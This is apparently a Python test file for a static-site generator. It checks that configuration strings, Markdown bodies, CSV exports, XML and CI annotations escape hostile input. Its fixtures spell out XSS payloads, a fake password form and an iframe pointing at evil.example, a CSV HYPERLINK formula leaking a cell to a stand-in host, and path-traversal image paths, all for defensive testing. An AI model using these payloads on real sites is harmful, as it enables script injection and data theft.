"""Escaping and injection: configuration and catalog strings are text on every page, the agency's
Markdown text is sanitised, no formula in the CSV, well-formed XML, escaped CI annotations.

Sites are built with the real `oit build` and read back with an HTML parser, so what is asserted
is what a browser would see, whatever spelling the escaping uses.
"""
from __future__ import annotations

import csv
import io
import json
import os
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import pytest

from conftest import MINI_CATALOG, Tree, run_oit
from generator.build import load_reports
from generator.check import github_annotations

AS_OF = "2569-01-01"

# Markup, Markdown links and images, an attr_list and an entity: all must stay literal text.
HOSTILE = ('<script>alert("x")</script> [คลิก](javascript:alert(1)) ![t](https://tracker.example/t.png) '
           '<img src=x onerror=alert(2)> &amp; *ตัวเอียง* | a | {: onmouseover="alert(3)" }')
NAME = "หน่วยงาน " + HOSTILE
BASE_URL = "https://example.go.th/a&b'x/"
CATALOG_TITLE, GROUP_TITLE, ITEM_TITLE = "ชุด " + HOSTILE, "กลุ่ม " + HOSTILE, "โครงสร้าง " + HOSTILE
CRITERION, LABEL = "เกณฑ์ " + HOSTILE, "ผู้บริหาร " + HOSTILE

# The agency's own text: what must go, and what must stay.
HOSTILE_BODY = """\
<script>alert('body')</script>

<img src="x.png" onerror="alert(2)">

[js](javascript:alert(3)) [JS](  JaVaScRiPt:alert(4)) [data](data:text/html;base64,PHNjcmlwdD4=)
[ref][r1] [ref2][r2] <javascript:alert(5)> <a href="javascript:alert(6)">a</a>

[r1]: javascript:alert(7)
[r2]: data:text/html,<script>alert(8)</script>

ย่อหน้า
{: onclick="alert(9)" }

<iframe src="https://evil.example/"></iframe>

<style>body { display: none }</style>

<form action="https://evil.example/steal"><input name="password"></form>

<div onmouseover="alert(10)" style="position:fixed">ทับหน้า</div>

<svg><script>alert(11)</script></svg> <object data="x.swf"></object>

## หัวข้อ <img src=x onerror=alert(12)> {: data-toc-label="<img src=y onerror=alert(13)>" }

<!--/oit:body-->
<script>alert('after a fake end marker')</script>
<!--oit:body-->
"""
GOOD_BODY = """\
### หัวข้อย่อย

| ข้อ | รายละเอียด |
|:---|---:|
| 1 | **ตัวหนา** |

- [เว็บ](https://example.go.th/x) [อีเมล](mailto:a@example.go.th) [โทร](tel:076211000) [O5](../O5/index.md)
- ![แผนผัง](https://example.go.th/chart.png) ![ภาพ](chart.png)

<details><summary>รายละเอียด</summary>ซ่อน</details> <abbr title="สำนักงาน">สนง.</abbr>
"""


class Page(HTMLParser):
    """Every element of a page with its attributes, the text of each, and the <title>."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.elements, self.open, self.texts = [], [], {}
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))
        if tag not in ("img", "br", "hr", "input", "meta", "link", "wbr", "source", "col"):
            self.open.append(tag)

    def handle_endtag(self, tag):
        if tag in self.open:
            while self.open.pop() != tag:
                pass

    def handle_data(self, data):
        for tag in set(self.open):
            self.texts[tag] = self.texts.get(tag, "") + data

    def text(self, tag: str = "body") -> str:
        return " ".join(self.texts.get(tag, "").split())

    def tags(self, name: str) -> list:
        return [attrs for tag, attrs in self.elements if tag == name]


def page(out: Path, path: str) -> Page:
    return Page((out / path).read_text(encoding="utf-8"))


def assert_no_injection(p: Page, where: str) -> None:
    """Nothing a browser would run or load from elsewhere, beyond the theme's own scripts."""
    for tag, attrs in p.elements:
        events = [name for name in attrs if name.lower().startswith("on")]
        assert not events, (where, tag, attrs)
        for name in ("href", "src", "action", "data"):
            value = re.sub(r"\s", "", attrs.get(name) or "").lower()
            assert not value.startswith(("javascript:", "data:", "vbscript:")), (where, tag, attrs)
        assert "tracker.example" not in (attrs.get("src") or ""), (where, tag, attrs)
        assert tag not in ("iframe", "object", "embed"), (where, tag, attrs)  # inline <svg> icons are the theme's
        assert "position:fixed" not in (attrs.get("style") or "").replace(" ", ""), (where, tag, attrs)
    assert "alert" not in p.texts.get("script", ""), where
    assert "display: none" not in p.texts.get("style", ""), where
    assert [f.get("class") for f in p.tags("form")] in ([], ["md-search__form"]), where  # the theme's search box


def write_catalog(tree: Tree, catalog: str) -> None:
    (tree.base / "oit_items" / "mini.yml").write_text(catalog, encoding="utf-8")


def hostile_catalog() -> str:
    quoted = json.dumps  # a JSON string is a YAML double-quoted string
    return (MINI_CATALOG.replace("title: ชุดทดสอบ", f"title: {quoted(CATALOG_TITLE)}")
            .replace("title: ข้อมูลพื้นฐาน", f"title: {quoted(GROUP_TITLE)}")
            .replace("{code: O1, title: โครงสร้าง, criteria: [แสดงแผนผัง]",
                     f"{{code: O1, title: {quoted(ITEM_TITLE)}, criteria: [{quoted(CRITERION)}]")
            .replace("label: ผู้บริหาร,", f"label: {quoted(LABEL)},"))


@pytest.fixture(scope="module")
def injected(tmp_path_factory):
    """One build of a tree whose site.yml, catalog and O1 text are hostile."""
    base = tmp_path_factory.mktemp("injected")
    tree = Tree(base)
    write_catalog(tree, hostile_catalog())
    (tree.content / "site.yml").write_text(
        f"name: {json.dumps(NAME)}\nname_en: Test\nbase_url: {json.dumps(BASE_URL)}\ndefault_year: 2566\n",
        encoding="utf-8")
    tree.item("O1", "evidence:\n  - title: แผนผังโครงสร้าง\n    file: chart.pdf\n",
              body=GOOD_BODY + "\n" + HOSTILE_BODY, files={"chart.pdf": "pdf", "chart.png": "png"})
    out = base / "site"
    cwd = os.getcwd()
    os.chdir(base)
    try:
        status = run_oit_quiet("build", "--content", tree.content, "--out", out, "--as-of", AS_OF)
    finally:
        os.chdir(cwd)
    assert status == 0
    return tree, out


def run_oit_quiet(*args) -> int:
    from generator.cli import main
    return main([str(a) for a in args])


PAGES = ["index.html", "2566/index.html", "2566/O1/index.html", "2566/O2/index.html"]


@pytest.mark.parametrize("path", PAGES)
def test_configuration_and_catalog_strings_are_text_on_every_page(injected, path):
    tree, out = injected
    p = page(out, path)
    assert_no_injection(p, path)
    assert p.text("title").endswith(f"OIT {NAME}"), path
    assert f"OIT {NAME}" in p.text("header"), path  # the theme's header
    assert f"OIT {NAME}" in p.text("nav"), path  # the theme's drawer
    canonical = [a["href"] for a in p.tags("link") if a.get("rel") == "canonical"]
    assert canonical == [BASE_URL + path[: -len("index.html")]], path


def test_catalog_strings_are_literal_where_each_appears(injected):
    tree, out = injected
    home, year, o1, o2 = (page(out, p) for p in PAGES)
    assert NAME in home.text("h1") and CATALOG_TITLE in home.text() and GROUP_TITLE in home.text("h2")
    assert CATALOG_TITLE in year.text() and ITEM_TITLE in year.text("table")
    assert f"O1 {ITEM_TITLE}" in o1.text("h1") and f"O1 {ITEM_TITLE} (2566) - OIT {NAME}" == o1.text("title")
    assert f"O1 {ITEM_TITLE} (2566)" in o1.text("header")
    assert CRITERION in o1.text("li") and GROUP_TITLE in o1.text("p")
    assert LABEL in o2.text("h2")


def test_search_index_holds_the_strings_as_text(injected):
    tree, out = injected
    index = json.loads((out / "search" / "search_index.json").read_text(encoding="utf-8"))
    for doc in index["docs"]:
        for key in ("title", "text"):
            entry = Page(doc[key])  # the theme shows these as HTML
            assert_no_injection(entry, doc["location"])
            assert not entry.tags("script") and not entry.tags("img"), doc


def test_sitemap_is_well_formed_with_an_ampersand_in_base_url(injected):
    tree, out = injected
    root = ET.parse(out / "sitemap.xml").getroot()
    locations = [e.text for e in root.iter("{http://www.sitemaps.org/schemas/sitemap/0.9}loc")]
    assert BASE_URL in locations and BASE_URL + "2566/O1/" in locations


def test_markdown_text_is_sanitised(injected):
    tree, out = injected
    o1 = page(out, "2566/O1/index.html")
    assert_no_injection(o1, "O1")
    hrefs = {a.get("href") for a in o1.tags("a")}
    assert {"https://example.go.th/x", "mailto:a@example.go.th", "tel:076211000", "../O5/"} <= hrefs
    assert {"https://example.go.th/chart.png", "chart.png"} <= {i.get("src") for i in o1.tags("img")}
    assert o1.tags("details") and o1.tags("summary") and {"title": "สำนักงาน"} in o1.tags("abbr")
    assert "หัวข้อย่อย" in o1.text("h3") and "ตัวหนา" in o1.text("strong") and "ย่อหน้า" in o1.text("p")
    assert "text-align" in str(o1.tags("th")) and "ทับหน้า" in o1.text()
    # the generated blocks after the text are whole
    assert {"class": "oit-evidence"} in o1.tags("table") and "แผนผังโครงสร้าง" in o1.text("table")


def test_text_may_opt_out_of_sanitising_in_so_many_words(tree, capsys):
    tree.item("O1", "evidence:\n  - title: แผนผัง\n    file: chart.pdf\n",
              body="<span onclick=\"go()\">ปุ่ม</span>\n", files={"chart.pdf": "pdf"})
    site_yml = tree.content / "site.yml"
    base = site_yml.read_text(encoding="utf-8")
    for setting, kept in (("", False), ("unsafe_html: yes\n", False), ("unsafe_html: allow\n", True)):
        site_yml.write_text(base + setting, encoding="utf-8")
        status, _, err = run_oit(capsys, "build", "--as-of", AS_OF)
        assert status == 0, err
        spans = page(tree.base / "site", "2566/O1/index.html").tags("span")
        assert ({"onclick": "go()"} in spans) == kept, setting


PHOTOS = ["//tracker.example/p.png", "https://tracker.example/p.png", "HTTPS://tracker.example/p.png",
          " //tracker.example/p.png", "http:/tracker.example/p.png", "\\\\tracker.example\\p.png",
          "../O1/boss.png", "/etc/p.png"]


def test_photo_is_only_ever_a_file_published_beside_the_page(tree, capsys):
    records = "".join(f"  - name: คน {n}\n    position: ตำแหน่ง\n    photo: {json.dumps(p)}\n    phone: 0 7621 1000\n"
                      for n, p in enumerate(PHOTOS))
    tree.item("O1", "evidence:\n  - title: แผนผัง\n    file: chart.pdf\n", files={"chart.pdf": "pdf", "boss.png": "png"})
    tree.item("O2", "executives:\n  - name: ตัวจริง\n    position: ผู้อำนวยการ\n    photo: boss.png\n"
                    "    phone: 0 7621 1000\n" + records, files={"boss.png": "png"})
    run_oit(capsys, "build", "--as-of", AS_OF)
    o2 = page(tree.base / "site", "2566/O2/index.html")
    sources = [i["src"] for i in o2.tags("img") if "/assets/agency-logo" not in i["src"]]  # the header's logo aside
    assert sources == ["boss.png"]  # the one photo in the item folder; the others show no image
    assert all((tree.base / "site" / "2566" / "O2" / s).is_file() for s in sources)
    assert len([t for t in o2.tags("p") if t.get("class") == "oit-card-name"]) == len(PHOTOS) + 1


def test_csv_cells_cannot_be_formulas(tree, capsys):
    explanations = {"O4": '=HYPERLINK("https://evil.example/?leak="&A1,"คลิก")', "O5": "@SUM(1+1)",
                    "O6": "+1+1", "O7": "-1+1"}
    for code, text in explanations.items():
        index = tree.index(code)
        front = index.read_text(encoding="utf-8").split("---\n")[1]
        tree.item(code, front, body=text + "\n")
    write_catalog(tree, MINI_CATALOG.replace("title: รายงานผลประจำปี", 'title: "=1+1 รายงาน"'))
    run_oit(capsys, "build", "--as-of", AS_OF)
    data = (tree.base / "site" / "itas-2566.csv").read_bytes().decode("utf-8-sig")
    rows = {row["code"]: row for row in csv.DictReader(io.StringIO(data))}
    for code, text in explanations.items():
        assert rows[code]["explanation"] == "'" + text
    assert rows["O8"]["title"] == "'=1+1 รายงาน" and rows["O1"]["title"] == "โครงสร้าง"
    for row in rows.values():
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row


def test_every_csv_cell_goes_through_one_neutraliser():
    from generator.exports import csv_bytes
    data = csv_bytes([["\t=1", "\r=1", "=1", "ok", "2566-Q1"]]).decode("utf-8-sig")
    assert next(csv.reader(io.StringIO(data))) == ["'\t=1", "'\r=1", "'=1", "ok", "2566-Q1"]


def test_junit_is_well_formed_with_control_characters(tree, capsys):
    write_catalog(tree, MINI_CATALOG.replace("title: โครงสร้าง", 'title: "โครง\\x07สร้าง\\x1b[31m"'))
    tree.item("O1", 'evidence:\n  - title: "แผน\\x0bผัง"\n    file: missing.pdf\n')
    status, out, err = run_oit(capsys, "validate", "--as-of", AS_OF, "--format", "junit")
    assert status == 1, err
    suite = ET.fromstring(out.encode("utf-8"))
    names = [case.get("name") for case in suite.iter("testcase")]
    assert any(n.startswith("O1 โครง") and "สร้าง" in n for n in names)
    assert [c for c in suite.iter("testcase") if c.get("name").startswith("O1")][0].find("failure") is not None


def test_github_annotations_escape_properties_and_message(tmp_path, monkeypatch):
    base = tmp_path / "a,b:c"
    tree = Tree(base)
    tree.item("O1", 'evidence:\n  - title: แผนผัง\n    file: "100%,x:y.pdf"\n')
    monkeypatch.chdir(tmp_path)
    site, reports = load_reports(tree.content, None)
    report = reports[0]
    report.findings[0].message += "\nline two\r::error title=forged::"
    lines = github_annotations(report).splitlines()
    assert len(lines) == len(report.findings)
    for line, finding in zip(lines, report.findings):
        match = re.fullmatch(r"::(error|warning) ([^:]*)::(.*)", line)
        assert match, line
        props = dict(p.split("=", 1) for p in match[2].split(","))
        assert set(props) <= {"file", "line", "title"} and unescape(props["file"]) == finding.path
        assert unescape(match[3]).endswith(finding.message)


def unescape(text: str) -> str:
    for code, char in (("%3A", ":"), ("%2C", ","), ("%0D", "\r"), ("%0A", "\n"), ("%25", "%")):
        text = text.replace(code, char)
    return text


def test_text_moved_down_the_page_by_markdown_is_sanitised_too(tree, capsys):
    """An agency's mkdocs.yml may add extensions that move text: footnotes go to the page's end."""
    (tree.base / "mkdocs.yml").write_text(
        "theme: {name: material}\nmarkdown_extensions: [admonition, attr_list, tables, toc, footnotes]\n",
        encoding="utf-8")
    tree.item("O1", "evidence:\n  - title: แผนผัง\n    file: chart.pdf\n", files={"chart.pdf": "pdf"},
              body="ข้อความ[^1]\n\n[^1]: เชิงอรรถ <script>alert(1)</script> <img src=x onerror=alert(2)>\n")
    status, _, err = run_oit(capsys, "build", "--as-of", AS_OF)
    assert status == 0, err
    o1 = page(tree.base / "site", "2566/O1/index.html")
    assert_no_injection(o1, "O1")
    assert "เชิงอรรถ" in o1.text("li") and {"class": "oit-evidence"} in o1.tags("table")


def test_an_open_look_alike_of_a_generated_block_does_not_swallow_the_real_ones(tree, capsys):
    fake = '<div data-oit-block="' + "0" * 40 + '"><p>ไม่ปิด'
    tree.item("O1", "evidence:\n  - title: แผนผัง\n    file: chart.pdf\n", files={"chart.pdf": "pdf"}, body=fake + "\n")
    run_oit(capsys, "build", "--as-of", AS_OF)
    o1 = page(tree.base / "site", "2566/O1/index.html")
    assert {"class": "oit-evidence"} in o1.tags("table") and "แผนผัง" in o1.text("table")
    assert not [attrs for _, attrs in o1.elements if "data-oit-block" in attrs]
